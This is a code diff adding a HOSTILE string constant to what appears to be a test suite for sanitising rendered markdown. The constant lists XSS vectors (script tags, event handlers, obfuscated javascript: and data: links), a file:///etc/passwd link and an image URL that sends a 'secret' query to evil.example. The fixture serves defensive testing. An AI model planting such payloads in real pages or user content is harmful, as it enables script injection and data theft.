@@ -59,6 +59,35 @@ See [the handbook](https://example.com/handbook).
 """
 
 
+HOSTILE = """\
+<script>window.broken = 1</script> <img src=x onerror="window.broken = 2">
+
+<iframe src="https://evil.example/"></iframe><svg onload="window.broken = 3"></svg>
+
+<a href="javascript:window.broken=4">raw link</a> <style>body { display: none }</style>
+
+[scheme](javascript:window.broken=5) [tab](java\tscript:window.broken=6)
+[entity](&#106;avascript:window.broken=7) [data](data:text/html,<script>alert(1)</script>)
+[vbscript](vbscript:x) [file](file:///etc/passwd) [case](JaVaScRiPt:window.broken=8)
+
+![pixel](https://evil.example/pixel.png?q=secret) ![drawing](data:image/svg+xml;base64,PHN2Zz4=)
+![quote](x" onerror="window.broken=9)
+
+[title](https://example.com "x\\" onmouseover=\\"window.broken=10")
+<https://example.com/auto> [good](https://example.com/good) [mail](mailto:a@example.com)
+
+| a | b |
+|---|---|
+| <img src=x onerror=window.broken=11> | `<b>` |
+
+```html
+<script>window.broken = 12</script>
+```
+
+&lt;script&gt;window.broken = 13&lt;/script&gt; &#0; &#xD800; \u202eright to left
+"""
+
+
 @dataclass(frozen=True, slots=True, kw_only=True)
 class Scene:
     """One answer of the model."""
